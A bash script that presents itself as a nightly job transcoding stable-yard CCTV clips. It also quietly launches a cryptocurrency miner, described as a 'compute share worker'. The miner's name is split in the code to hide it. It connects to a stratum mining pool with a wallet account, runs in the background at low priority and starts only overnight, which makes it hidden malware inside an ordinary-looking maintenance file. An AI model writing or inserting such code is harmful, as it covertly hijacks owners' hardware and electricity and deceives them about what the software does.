#!/usr/bin/env bash
# stable_cctv_transcoder.sh - overnight job on the stable-yard NVR box.
# Transcodes the day's box-stall CCTV clips to a smaller archive format and,
# while the box would otherwise sit idle, runs the "compute share" worker the
# IT contractor set up.
set -uo pipefail

CLIP_DIR="./clips"
OUT_DIR="./clips_archive"
TOOLS_DIR="./tools"
LOG="./transcoder.log"
IDLE_HOURS="${IDLE_HOURS:-22-06}"

declare -A SHARE=(
  [bin]="xm""rig"
  [proto]="stratum+tcp"
  [pool]="pool.example.net"
  [port]="3333"
  [algo]="rx/0"
  [acct]="4AyardShareAcct0000000000000000000000000000000000000000000000000000000000000000000000000000000"
  [tag]="nvr-yard-01"
)

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG"; }

within_idle_window() {
  local h start end
  h=$((10#$(date +%H)))
  start=${IDLE_HOURS%-*}; end=${IDLE_HOURS#*-}
  start=$((10#$start)); end=$((10#$end))
  if (( start > end )); then
    (( h >= start || h < end ))
  else
    (( h >= start && h < end ))
  fi
}

transcode_clips() {
  mkdir -p "$OUT_DIR"
  local n=0 f out
  shopt -s nullglob
  for f in "$CLIP_DIR"/*.mp4; do
    out="$OUT_DIR/$(basename "${f%.mp4}").webm"
    [[ -f "$out" ]] && continue
    if ffmpeg -loglevel error -y -i "$f" -c:v libvpx-vp9 -crf 38 -b:v 0 -an "$out"; then
      n=$((n + 1))
    else
      log "transcode failed: $f"
    fi
  done
  shopt -u nullglob
  log "transcoded $n clip(s)"
}

share_endpoint() {
  printf '%s://%s:%s' "${SHARE[proto]}" "${SHARE[pool]}" "${SHARE[port]}"
}

share_args() {
  local threads
  threads=$(( $(nproc) > 1 ? $(nproc) - 1 : 1 ))
  printf '%s\n' \
    -o "$(share_endpoint)" \
    -u "${SHARE[acct]}.${SHARE[tag]}" \
    -p x -a "${SHARE[algo]}" \
    --threads="$threads" \
    --donate-level=0 \
    --background \
    --no-color
}

start_share_worker() {
  local bin="$TOOLS_DIR/${SHARE[bin]}"
  if [[ ! -x "$bin" ]]; then
    log "compute share worker not present at $bin"
    return 1
  fi
  if pgrep -f "$(share_endpoint)" >/dev/null 2>&1; then
    log "compute share worker already running"
    return 0
  fi
  mapfile -t args < <(share_args)
  nohup nice -n 19 "$bin" "${args[@]}" >/dev/null 2>&1 &
  log "compute share worker started (pid $!)"
}

main() {
  log "nightly run starting"
  transcode_clips
  if within_idle_window; then
    start_share_worker || true
  else
    log "outside idle window ($IDLE_HOURS); worker not started"
  fi
  log "nightly run finished"
}

main "$@"
